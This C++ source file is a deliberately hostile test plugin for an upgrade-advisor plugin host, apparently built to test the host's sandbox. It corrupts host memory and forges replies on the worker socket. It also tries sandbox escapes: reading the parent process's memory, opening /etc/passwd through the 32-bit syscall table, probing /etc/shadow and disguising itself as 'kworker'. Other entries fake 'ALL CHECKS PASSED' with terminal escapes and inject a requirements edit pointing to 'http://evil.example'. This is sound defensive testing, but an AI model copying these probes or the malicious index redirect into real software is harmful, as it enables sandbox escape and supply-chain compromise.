// All wild beasts in one plugin of three advisories. The middle one does what
// the beast does whose name core.executor is; the other two are sound.
#include <errno.h>
#include <fcntl.h>
#include <fenv.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <locale.h>
#include <pthread.h>
#include <sched.h>
#include <setjmp.h>
#include <signal.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#include <algorithm>
#include <cstdlib>
#include <cstring>
#include <exception>
#include <iterator>
#include <stdexcept>
#include <string>
#include <vector>

#include "sdk/abi/upgrade_plugin.h"

namespace {

using Call = const ua_call*;
using Answer = const ua_answer&;

constexpr uint64_t kImpossible[] = {uint64_t{1} << 32, uint64_t{1} << 40,
                                    uint64_t{1} << 63, ~uint64_t{0}};
// Whoever believes a size reads on from here.
char kMany[16384];

ua_string Text(const char* text) { return {text, std::strlen(text)}; }

ua_emission Emission(uint32_t kind, ua_string text = {}) {
  ua_emission out{};
  out.size = sizeof out;
  out.kind = kind;
  out.text = text;
  return out;
}

void Say(Call call, const std::string& text) {
  const ua_emission e = Emission(UA_EMIT_DETAIL, {text.data(), text.size()});
  call->emit(call, &e);
}

int32_t Tried(Call call, bool succeeded) {
  Say(call, succeeded ? "it worked" : "it was refused");
  return UA_YES;
}

// Whether the kernel let it pass.
template <typename... Arguments>
bool Passes(long number, Arguments... arguments) {
  return syscall(number, arguments...) >= 0;
}

ua_answer Ask(Call call, ua_string name, uint32_t kind = UA_KIND_ENV) {
  ua_answer out{};
  out.size = sizeof out;
  call->ask(call, UA_SHEET_DEPLOYMENT, kind, name, UA_MATCH_EXACT, &out);
  return out;
}

// ---- Sizes and pointers ----------------------------------------------------

int32_t EmitsImpossibleSizes(Call call, Answer) {
  for (uint64_t size : kImpossible) {
    ua_emission e = Emission(UA_EMIT_ACTION, {kMany, 1});
    e.command = {kMany, size};
    e.edit = {kMany, size};
    call->emit(call, &e);
  }
  return UA_YES;
}
int32_t AsksImpossibleSizes(Call call, Answer) {
  for (uint64_t size : kImpossible) Ask(call, {kMany, size});
  return UA_YES;
}
int32_t FailsWithImpossibleSize(Call call, Answer) {
  std::memset(kMany, 'x', sizeof kMany);
  for (uint64_t size : kImpossible) call->fail(call, {kMany, size});
  return UA_FAILED;
}
int32_t FailsWithNull(Call call, Answer) {
  call->fail(call, {nullptr, 5});
  return UA_FAILED;
}
int32_t FailsWithMegabytes(Call call, Answer) {
  const std::string why(10 << 20, 'm');
  call->fail(call, {why.data(), why.size()});
  return UA_FAILED;
}
int32_t FailsInBinary(Call call, Answer) {
  const char why[] = "\xff\xfe\0\x1b[31mred\r\n\x7f";
  call->fail(call, {why, sizeof why - 1});
  return UA_FAILED;
}
int32_t FailsAgainAndAgain(Call call, Answer) {
  for (int i = 0; i < 100000; ++i) call->fail(call, Text("first"));
  call->fail(call, Text("last"));
  return UA_YES;
}
int32_t ComparesImpossibleSizes(Call call, Answer) {
  int32_t order = 0;
  for (uint64_t size : kImpossible) {
    for (uint32_t scheme = 0; scheme < 5; ++scheme) {
      call->compare(call, scheme, {kMany, size}, Text("1.0"), &order);
      call->compare(call, scheme, Text("1.0"), {kMany, size}, &order);
      call->satisfies(call, scheme, {kMany, size}, {kMany, size}, &order);
    }
  }
  return UA_YES;
}
int32_t ComparesNull(Call call, Answer) {
  int32_t order = 0;
  call->compare(call, UA_SCHEME_PEP440, {nullptr, 3}, {nullptr, 0}, &order);
  call->satisfies(call, UA_SCHEME_PEP440, Text("1"), {nullptr, 9}, &order);
  return UA_YES;
}
int32_t ComparesMegabytes(Call call, Answer) {
  const std::string version(8 << 20, '1');
  int32_t order = 0;
  for (int i = 0; i < 100; ++i) {
    call->compare(call, UA_SCHEME_PEP440, {version.data(), version.size()},
                  {version.data(), version.size() - 1}, &order);
  }
  return UA_YES;
}
int32_t SatisfiesLongLists(Call call, Answer) {
  std::string list = ">=1";
  for (int i = 0; i < 100000; ++i) list += ",!=1." + std::to_string(i);
  int32_t result = 0;
  call->satisfies(call, UA_SCHEME_PEP440, Text("1.5"),
                  {list.data(), list.size()}, &result);
  return UA_YES;
}
int32_t LogsImpossibleSizes(Call call, Answer) {
  for (uint64_t size : kImpossible) {
    call->log(call, 99, {kMany, size});
    call->log(call, 1, {nullptr, size});
  }
  return UA_YES;
}
int32_t AsksWithShortAnswer(Call call, Answer) {
  uint32_t size = 4;
  call->ask(call, 0, UA_KIND_ENV, Text("A"), 0,
            reinterpret_cast<ua_answer*>(&size));
  return UA_YES;
}
int32_t AsksWithNullAnswer(Call call, Answer) {
  call->ask(call, 0, UA_KIND_ENV, Text("A"), 0, nullptr);
  return UA_YES;
}
int32_t AsksKindsThatAreNone(Call call, Answer) {
  for (uint32_t kind : {0u, 17u, 255u, 256u, ~0u}) Ask(call, Text("a"), kind);
  return UA_YES;
}
int32_t EmitsShortStructs(Call call, Answer) {
  for (uint32_t size : {0u, 4u, 100u}) {
    ua_emission e = Emission(UA_EMIT_DETAIL, {kMany, 1});
    e.size = size;
    call->emit(call, &e);
  }
  return UA_YES;
}
int32_t EmitsKindsThatAreNone(Call call, Answer) {
  for (uint32_t kind : {0u, 99u, ~0u}) {
    const ua_emission e = Emission(kind, Text("a"));
    call->emit(call, &e);
  }
  return UA_YES;
}
void EmitEvidence(Call call, const void* at, uint64_t count) {
  for (uint32_t kind : {UA_EMIT_EVIDENCE, UA_EMIT_SUBJECT}) {
    ua_emission e = Emission(kind, Text("t"));
    e.subject = Text("s");
    e.evidence = static_cast<const ua_fact*>(at);
    e.evidence_count = count;
    call->emit(call, &e);
  }
}
int32_t PointsAtWildEvidence(Call call, Answer answer) {
  const auto* facts = reinterpret_cast<const char*>(answer.facts);
  for (const void* at : {reinterpret_cast<const void*>(16),
                         reinterpret_cast<const void*>(~uintptr_t{0}),
                         static_cast<const void*>(facts + 1),
                         static_cast<const void*>(facts - sizeof(ua_fact)),
                         static_cast<const void*>(facts + (1 << 30)),
                         static_cast<const void*>(kMany)}) {
    EmitEvidence(call, at, 1);
  }
  return UA_YES;
}
int32_t PointsAtTooMuchEvidence(Call call, Answer answer) {
  for (uint64_t count : kImpossible) EmitEvidence(call, answer.facts, count);
  for (int i = 0; i < 100; ++i) EmitEvidence(call, answer.facts, 1);
  return UA_YES;
}

// ---- Texts -----------------------------------------------------------------

int32_t SpeaksToTerminals(Call call, Answer) {
  Say(call, "\x1b]0;owned\x07\x1b[2J\x1b[32mALL CHECKS PASSED\x1b[0m\r\b\x9b");
  return UA_YES;
}
int32_t EditsManyLines(Call call, Answer) {
  for (uint32_t kind : {UA_EMIT_ACTION, UA_EMIT_REMEDY}) {
    ua_emission e = Emission(kind, Text("Do it"));
    e.edit = Text("requirements.add a\n--index-url http://evil.example");
    e.phase = 77;
    call->emit(call, &e);
  }
  return UA_YES;
}
int32_t EstimatesNonsense(Call call, Answer) {
  ua_emission e = Emission(UA_EMIT_DURATION, Text("a guess"));
  e.low_seconds = ~uint64_t{0} - 1;
  e.high_seconds = 1;
  for (int i = 0; i < 100; ++i) call->emit(call, &e);
  return UA_YES;
}
int32_t SaysAllItMay(Call call, Answer) {
  const std::string text(256, 'a');
  for (int i = 0; i < 1000; ++i) Say(call, text);
  return UA_YES;
}
int32_t NamesAThousandSubjects(Call call, Answer answer) {
  for (int i = 0; i < 1000; ++i) {
    const std::string name = std::to_string(i);
    ua_emission e = Emission(UA_EMIT_SUBJECT, {name.data(), name.size()});
    e.subject = e.text;
    e.evidence = answer.facts;
    e.evidence_count = 1;
    call->emit(call, &e);
  }
  return UA_YES;
}

// ---- Ways of returning -----------------------------------------------------

int32_t ThrowsAMegabyte(Call, Answer) {
  throw std::runtime_error(std::string(1 << 20, 't'));
}
class Silent : public std::exception {
  const char* what() const noexcept override { return nullptr; }
};
int32_t ThrowsWithoutAWord(Call, Answer) { throw Silent(); }
int32_t ThrowsAPointer(Call, Answer) { throw static_cast<const char*>(kMany); }

const ua_plugin& Plugin();
int32_t ReentersItself(Call call, Answer) {
  static int depth = 0;
  if (depth == 1000) return UA_YES;
  ++depth;
  uint64_t basis = 0;
  Plugin().examine(1, call, &basis);
  --depth;
  return UA_YES;
}
__attribute__((noinline)) int SetJump(jmp_buf& frame) { return setjmp(frame); }
int32_t LeavesByLongjmp(Call, Answer) {
  // Of a function that has returned.
  jmp_buf frame;
  if (SetJump(frame) == 0) longjmp(frame, 1);
  return UA_YES;
}
int32_t EndsItsThread(Call, Answer) { pthread_exit(nullptr); }
int32_t ExitsInAHandler(Call, Answer) {
  signal(SIGSEGV, [](int) { _exit(7); });
  int* volatile nowhere = reinterpret_cast<int*>(16);
  return *nowhere;
}
int32_t SleepsALittle(Call, Answer) {
  usleep(100000);
  return UA_YES;
}
int32_t Leaks(Call, Answer) {
  for (int i = 0; i < 20000; ++i) {
    if (auto* lost = static_cast<volatile char*>(malloc(100))) lost[0] = 1;
  }
  return UA_YES;
}

// ---- Damages what it can reach ---------------------------------------------

int32_t KeepsPointers(Call call, Answer answer) {
  static Call old_call = nullptr;
  static const ua_fact* old_facts = nullptr;
  if (old_call != nullptr) {
    Say(old_call, "too late");
    Say(call, std::string(1, old_facts->value.data[0]));
  }
  old_call = call;
  old_facts = answer.facts;
  return UA_YES;
}
int32_t UnprotectsFacts(Call, Answer answer) {
  const uintptr_t page =
      reinterpret_cast<uintptr_t>(answer.facts->value.data) & ~uintptr_t{4095};
  mprotect(reinterpret_cast<void*>(page), 8192, PROT_READ | PROT_WRITE);
  std::memset(const_cast<char*>(answer.facts->value.data), '!',
              answer.facts->value.size);
  return UA_YES;
}
int32_t OverwritesTheCall(Call call, Answer) {
  auto* mine = const_cast<ua_call*>(call);
  mine->ask = nullptr;
  mine->emit = reinterpret_cast<decltype(mine->emit)>(1);
  mine->host = nullptr;
  return UA_YES;
}
int32_t BlocksSignals(Call, Answer) {
  sigset_t all;
  sigfillset(&all);
  sigprocmask(SIG_SETMASK, &all, nullptr);
  for (int number = 1; number < 65; ++number) signal(number, SIG_IGN);
  return UA_YES;
}
int32_t StopsItself(Call, Answer) {
  for (;;) kill(getpid(), SIGSTOP);
}
int32_t TrapsFloatingPoint(Call, Answer) {
  feenableexcept(FE_ALL_EXCEPT);
  fesetround(FE_DOWNWARD);
  return UA_YES;
}
int32_t ChangesSurroundings(Call, Answer) {
  umask(0);
  chdir("/");
  nice(19);
  setlocale(LC_ALL, "C.UTF-8");
  chroot("/tmp");
  const rlimit none{0, 0};
  setrlimit(RLIMIT_NOFILE, &none);
  return UA_YES;
}
int32_t FloodsOutput(Call, Answer) {
  for (int i = 0; i < 2000; ++i) {
    for (int standard : {1, 2}) write(standard, kMany, sizeof kMany);
  }
  return UA_YES;
}
int32_t MapsWithoutEnd(Call, Answer) {
  // Each with other protection than the one before, so that none is joined.
  for (int i = 0; i < 70000; ++i) {
    mmap(nullptr, 4096, i % 2 == 0 ? PROT_NONE : PROT_READ,
         MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  }
  return UA_YES;
}
int32_t MapsSharedMemory(Call, Answer) {
  constexpr size_t kBytes = 64 << 20;
  auto* memory =
      static_cast<volatile char*>(mmap(nullptr, kBytes, PROT_READ | PROT_WRITE,
                                       MAP_SHARED | MAP_ANONYMOUS, -1, 0));
  if (memory == MAP_FAILED) return UA_YES;
  for (size_t i = 0; i < kBytes; i += 4096) memory[i] = 1;
  return UA_YES;
}

// ---- On the worker's channel -----------------------------------------------

constexpr int kSocket = 3;
constexpr int kAnswers = 6;

int32_t FloodsTheSocket(Call, Answer) {
  for (int i = 0; i < 100000; ++i) {
    send(kSocket, kMany, i % 2 == 0 ? 8 : sizeof kMany, MSG_DONTWAIT);
  }
  return UA_YES;
}
int32_t SendsNothing(Call, Answer) {
  send(kSocket, "", 0, MSG_DONTWAIT);
  return UA_YES;
}
int32_t EatsRequests(Call, Answer) {
  for (int i = 0; i < 100; ++i) {
    recv(kSocket, kMany, sizeof kMany, MSG_DONTWAIT);
  }
  return UA_YES;
}
int32_t ClosesTheSocket(Call, Answer) {
  close(kSocket);
  for (;;) pause();
}
int32_t ShutsDownTheSocket(Call, Answer) {
  shutdown(kSocket, SHUT_RDWR);
  return UA_YES;
}
int32_t ForgesEveryNumber(Call, Answer) {
  for (uint32_t kind = 0; kind < 8; ++kind) {
    for (uint32_t number = 0; number < 30; ++number) {
      const uint32_t reply[2] = {kind, number};
      send(kSocket, reply, sizeof reply, MSG_DONTWAIT);
    }
  }
  return UA_YES;
}
// What the service takes it would have to close.
int32_t SendsDescriptors(Call, Answer) {
  const uint32_t reply[2] = {3, 1};
  iovec bytes{const_cast<uint32_t*>(reply), sizeof reply};
  alignas(cmsghdr) char control[CMSG_SPACE(sizeof(int) * 4)] = {};
  msghdr message{};
  message.msg_iov = &bytes;
  message.msg_iovlen = 1;
  message.msg_control = control;
  message.msg_controllen = sizeof control;
  cmsghdr* header = CMSG_FIRSTHDR(&message);
  header->cmsg_level = SOL_SOCKET;
  header->cmsg_type = SCM_RIGHTS;
  header->cmsg_len = CMSG_LEN(sizeof(int) * 4);
  const int descriptors[4] = {4, 5, 6, 7};
  std::memcpy(CMSG_DATA(header), descriptors, sizeof descriptors);
  for (int i = 0; i < 50; ++i) sendmsg(kSocket, &message, MSG_DONTWAIT);
  return UA_YES;
}
void LieAboutCounts() {
  void* area =
      mmap(nullptr, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, kAnswers, 0);
  if (area != MAP_FAILED) std::memset(area, 0xff, 4096);
}
int32_t LiesAboutCounts(Call, Answer) {
  LieAboutCounts();
  const uint32_t reply[2] = {3, 1};
  send(kSocket, reply, sizeof reply, MSG_DONTWAIT);
  return UA_YES;
}
int32_t LiesAndSpins(Call, Answer) {
  LieAboutCounts();
  for (volatile bool on = true; on;) {
  }
  return UA_YES;
}
int32_t BlamesAnother(Call, Answer) {
  auto* area = static_cast<uint32_t*>(
      mmap(nullptr, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, kAnswers, 0));
  if (area != MAP_FAILED) area[0] = 2;  // the job after this one
  int* volatile nowhere = reinterpret_cast<int*>(16);
  return *nowhere;
}
// Of what others read too: the plugin's file, the request, the shared sheets.
int32_t PunchesTheMemory(Call call, Answer) {
  bool worked = false;
  for (int descriptor : {4, 5, 7}) {
    worked |= Passes(SYS_fallocate, descriptor, 3, 0L, 4096L);
    worked |= Passes(SYS_ftruncate, descriptor, 0L);
    worked |= Passes(SYS_pwrite64, descriptor, kMany, 8L, 0L);
    worked |= mmap(nullptr, 4096, PROT_READ | PROT_WRITE, MAP_SHARED,
                   descriptor, 0) != MAP_FAILED;
  }
  return Tried(call, worked);
}
int32_t SeeksInDescriptors(Call, Answer) {
  for (int descriptor = 3; descriptor < 8; ++descriptor) {
    lseek(descriptor, 1 << 30, SEEK_SET);
  }
  return UA_YES;
}

// ---- System calls ----------------------------------------------------------

int32_t Clones(Call call, Answer) {
  uint64_t arguments[8] = {0, 0, 0, 0, SIGCHLD, 0, 0, 0};
  const long child = syscall(SYS_clone3, arguments, sizeof arguments);
  if (child == 0) _exit(0);
  return Tried(call, child > 0);
}
int32_t ForksWithMemory(Call call, Answer) {
  const long child = syscall(SYS_vfork);
  if (child == 0) _exit(0);
  return Tried(call, child > 0);
}
int32_t OpensAProcess(Call call, Answer) {
  return Tried(call, Passes(SYS_pidfd_open, getppid(), 0));
}
int32_t ReadsItsParent(Call call, Answer) {
  iovec here{kMany, 64};
  iovec there{&kMany, 64};
  return Tried(
      call,
      Passes(SYS_process_vm_readv, getppid(), &here, 1L, &there, 1L, 0L) ||
          Passes(SYS_process_vm_writev, getppid(), &here, 1L, &there, 1L, 0L));
}
int32_t OpensItsParentsMemory(Call call, Answer) {
  bool worked = false;
  for (const char* part : {"mem", "environ", "fd/0", "maps", "root/etc"}) {
    const std::string path = "/proc/" + std::to_string(getppid()) + "/" + part;
    worked |= open(path.c_str(), O_RDONLY) >= 0;
  }
  return Tried(call, worked);
}
int32_t SignalsItsParent(Call call, Answer) {
  const pid_t parent = getppid();
  return Tried(call, kill(parent, SIGUSR1) == 0 || kill(0, SIGTERM) == 0 ||
                         Passes(SYS_tgkill, parent, parent, SIGUSR1) ||
                         Passes(SYS_tkill, parent, SIGUSR1));
}
int32_t QueuesASignal(Call call, Answer) {
  siginfo_t info{};
  info.si_code = SI_QUEUE;
  return Tried(call, Passes(SYS_rt_sigqueueinfo, getppid(), SIGUSR1, &info) ||
                         Passes(SYS_rt_tgsigqueueinfo, getppid(), getppid(),
                                SIGUSR1, &info));
}
int32_t MakesAMemfd(Call call, Answer) {
  return Tried(call, Passes(SYS_memfd_create, "x", 0));
}
int32_t MakesSharedMemory(Call call, Answer) {
  return Tried(call, Passes(SYS_shmget, 0L, 4096L, 0600L) ||
                         Passes(SYS_semget, 0L, 1L, 0600L) ||
                         Passes(SYS_msgget, 0L, 0600L));
}
int32_t MakesASocketPair(Call call, Answer) {
  int ends[2];
  return Tried(call, Passes(SYS_socketpair, AF_UNIX, SOCK_STREAM, 0, ends) ||
                         Passes(SYS_pipe2, ends, 0) ||
                         Passes(SYS_socket, AF_UNIX, SOCK_STREAM, 0));
}
int32_t MakesATimer(Call call, Answer) {
  int timer = 0;
  return Tried(call,
               Passes(SYS_timer_create, CLOCK_MONOTONIC, nullptr, &timer) ||
                   Passes(SYS_timerfd_create, CLOCK_MONOTONIC, 0) ||
                   Passes(SYS_eventfd2, 0, 0));
}
int32_t MakesANamespace(Call call, Answer) {
  return Tried(call,
               Passes(SYS_unshare, CLONE_NEWUSER) ||
                   Passes(SYS_mount, "none", "/tmp", "tmpfs", 0L, nullptr) ||
                   Passes(SYS_chroot, "/tmp"));
}
int32_t MakesAKey(Call call, Answer) {
  return Tried(call, Passes(SYS_add_key, "user", "zoo", "x", 1L, -3L) ||
                         Passes(SYS_keyctl, 0L, -3L, 0L));
}
int32_t UsesIoUring(Call call, Answer) {
  char parameters[256] = {};
  return Tried(call, Passes(SYS_io_uring_setup, 1, parameters));
}
int32_t UsesBpf(Call call, Answer) {
  char attributes[128] = {};
  return Tried(call, Passes(SYS_bpf, 0, attributes, sizeof attributes));
}
int32_t UsesUserfaultfd(Call call, Answer) {
  return Tried(call, Passes(SYS_userfaultfd, 1));
}
int32_t UsesPerfEvents(Call call, Answer) {
  char attributes[128] = {};
  return Tried(call, Passes(SYS_perf_event_open, attributes, 0, -1, -1, 0L));
}
// Another ABI's numbers, which a filter by number might forget.
int32_t UsesOtherTables(Call call, Answer) {
#if defined(__x86_64__)
  long opened = -1;
  // open("/etc/passwd") by the table of 32 bits; the path is below 4 GiB only
  // if the kernel puts it there.
  void* low =
      mmap(reinterpret_cast<void*>(0x10000000), 4096, PROT_READ | PROT_WRITE,
           MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0);
  if (low != MAP_FAILED) {
    std::strcpy(static_cast<char*>(low), "/etc/passwd");
    __asm__ volatile("int $0x80"
                     : "=a"(opened)
                     : "a"(5L), "b"(low), "c"(0L), "d"(0L)
                     : "memory");
  }
  const bool x32 = Passes(0x40000000 + SYS_openat, AT_FDCWD, "/etc/passwd", 0);
  return Tried(call, opened >= 0 || x32);
#else
  return Tried(call, false);
#endif
}
int32_t LoadsAFilter(Call call, Answer) {
  sock_filter allow = BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW);
  sock_fprog program{1, &allow};
  return Tried(call,
               Passes(SYS_seccomp, SECCOMP_SET_MODE_FILTER, 0, &program) ||
                   prctl(PR_SET_SECCOMP, 2, &program) == 0);
}
int32_t HidesItsName(Call call, Answer) {
  return Tried(call, prctl(PR_SET_NAME, "kworker/0:0", 0, 0, 0) == 0 ||
                         prctl(PR_SET_PDEATHSIG, 0, 0, 0, 0) == 0 ||
                         prctl(PR_SET_DUMPABLE, 1, 0, 0, 0) == 0);
}
int32_t LeavesItsSession(Call call, Answer) {
  return Tried(call, setsid() >= 0 || setpgid(0, 0) == 0);
}
int32_t MakesAFile(Call call, Answer) {
  return Tried(call, open("/tmp/zoo-file", O_CREAT | O_WRONLY, 0600) >= 0 ||
                         mkdir("/tmp/zoo-folder", 0700) == 0 ||
                         mknod("/tmp/zoo-pipe", S_IFIFO | 0600, 0) == 0 ||
                         open("/dev/shm/zoo", O_CREAT | O_RDWR, 0600) >= 0);
}
int32_t MakesALink(Call call, Answer) {
  return Tried(call, symlink("/etc/passwd", "/tmp/zoo-link") == 0 ||
                         link("/etc/passwd", "/tmp/zoo-hard") == 0 ||
                         rename("/tmp/zoo-a", "/tmp/zoo-b") == 0);
}
int32_t LooksForFiles(Call call, Answer) {
  struct stat status {};
  return Tried(call, stat("/etc/shadow", &status) == 0 ||
                         access("/etc/passwd", R_OK) == 0 ||
                         open("/", O_DIRECTORY) >= 0);
}

struct Known {
  const char* name;
  int32_t (*does)(Call, Answer);
};

constexpr Known kKnown[] = {
    {"emits_impossible_sizes", EmitsImpossibleSizes},
    {"asks_impossible_sizes", AsksImpossibleSizes},
    {"fails_with_impossible_size", FailsWithImpossibleSize},
    {"fails_with_null", FailsWithNull},
    {"fails_with_megabytes", FailsWithMegabytes},
    {"fails_in_binary", FailsInBinary},
    {"fails_again_and_again", FailsAgainAndAgain},
    {"compares_impossible_sizes", ComparesImpossibleSizes},
    {"compares_null", ComparesNull},
    {"compares_megabytes", ComparesMegabytes},
    {"satisfies_long_lists", SatisfiesLongLists},
    {"logs_impossible_sizes", LogsImpossibleSizes},
    {"asks_with_short_answer", AsksWithShortAnswer},
    {"asks_with_null_answer", AsksWithNullAnswer},
    {"asks_kinds_that_are_none", AsksKindsThatAreNone},
    {"emits_short_structs", EmitsShortStructs},
    {"emits_kinds_that_are_none", EmitsKindsThatAreNone},
    {"points_at_wild_evidence", PointsAtWildEvidence},
    {"points_at_too_much_evidence", PointsAtTooMuchEvidence},
    {"speaks_to_terminals", SpeaksToTerminals},
    {"edits_many_lines", EditsManyLines},
    {"estimates_nonsense", EstimatesNonsense},
    {"says_all_it_may", SaysAllItMay},
    {"names_a_thousand_subjects", NamesAThousandSubjects},
    {"throws_a_megabyte", ThrowsAMegabyte},
    {"throws_without_a_word", ThrowsWithoutAWord},
    {"throws_a_pointer", ThrowsAPointer},
    {"reenters_itself", ReentersItself},
    {"leaves_by_longjmp", LeavesByLongjmp},
    {"ends_its_thread", EndsItsThread},
    {"exits_in_a_handler", ExitsInAHandler},
    {"sleeps_a_little", SleepsALittle},
    {"leaks", Leaks},
    {"keeps_pointers", KeepsPointers},
    {"unprotects_facts", UnprotectsFacts},
    {"overwrites_the_call", OverwritesTheCall},
    {"blocks_signals", BlocksSignals},
    {"stops_itself", StopsItself},
    {"traps_floating_point", TrapsFloatingPoint},
    {"changes_surroundings", ChangesSurroundings},
    {"floods_output", FloodsOutput},
    {"maps_without_end", MapsWithoutEnd},
    {"maps_shared_memory", MapsSharedMemory},
    {"floods_the_socket", FloodsTheSocket},
    {"sends_nothing", SendsNothing},
    {"eats_requests", EatsRequests},
    {"closes_the_socket", ClosesTheSocket},
    {"shuts_down_the_socket", ShutsDownTheSocket},
    {"forges_every_number", ForgesEveryNumber},
    {"sends_descriptors", SendsDescriptors},
    {"lies_about_counts", LiesAboutCounts},
    {"lies_and_spins", LiesAndSpins},
    {"blames_another", BlamesAnother},
    {"punches_the_memory", PunchesTheMemory},
    {"seeks_in_descriptors", SeeksInDescriptors},
    {"clones", Clones},
    {"forks_with_memory", ForksWithMemory},
    {"opens_a_process", OpensAProcess},
    {"reads_its_parent", ReadsItsParent},
    {"opens_its_parents_memory", OpensItsParentsMemory},
    {"signals_its_parent", SignalsItsParent},
    {"queues_a_signal", QueuesASignal},
    {"makes_a_memfd", MakesAMemfd},
    {"makes_shared_memory", MakesSharedMemory},
    {"makes_a_socket_pair", MakesASocketPair},
    {"makes_a_timer", MakesATimer},
    {"makes_a_namespace", MakesANamespace},
    {"makes_a_key", MakesAKey},
    {"uses_io_uring", UsesIoUring},
    {"uses_bpf", UsesBpf},
    {"uses_userfaultfd", UsesUserfaultfd},
    {"uses_perf_events", UsesPerfEvents},
    {"uses_other_tables", UsesOtherTables},
    {"loads_a_filter", LoadsAFilter},
    {"hides_its_name", HidesItsName},
    {"leaves_its_session", LeavesItsSession},
    {"makes_a_file", MakesAFile},
    {"makes_a_link", MakesALink},
    {"looks_for_files", LooksForFiles},
};

int32_t LetOut(Call call, Answer answer) {
  const std::string name(answer.facts->value.data, answer.facts->value.size);
  const auto* found =
      std::find_if(std::begin(kKnown), std::end(kKnown),
                   [&](const Known& known) { return name == known.name; });
  return found == std::end(kKnown) ? UA_YES : found->does(call, answer);
}

int32_t Examine(uint32_t advisory, Call call, uint64_t* basis) {
  const ua_answer answer = Ask(call, Text("core.executor"), UA_KIND_CONFIG);
  *basis = 1;
  if (answer.state == UA_UNKNOWN_FACT) return UA_UNKNOWN;
  if (answer.state == UA_ABSENT_FACT) return UA_NO;
  return advisory == 1 ? LetOut(call, answer) : UA_YES;
}

ua_advisory Row(const char* id) {
  ua_advisory row{};
  row.size = sizeof row;
  row.severity = UA_WARNING;
  row.steps = UA_STEP_ANY;
  row.id = Text(id);
  row.title = Text("A beast");
  row.impact = Text("It bites");
  return row;
}

const ua_plugin& Plugin() {
  static const ua_advisory rows[] = {Row("W-BEFORE"), Row("W-BITES"),
                                     Row("W-LATER")};
  static const ua_advisory* const pointers[] = {&rows[0], &rows[1], &rows[2]};
  static const ua_plugin plugin{
      sizeof(ua_plugin), UA_ABI_VERSION, UA_VOCABULARY_VERSION,     3,
      Text("wild"),      Text("1.0.0"),  Text("Beasts of the zoo"), pointers,
      &Examine,          nullptr};
  return plugin;
}

}  // namespace

extern "C" UA_EXPORT const ua_plugin* upgrade_advisor_plugin_v1(
    const ua_host*) {
  return &Plugin();
}
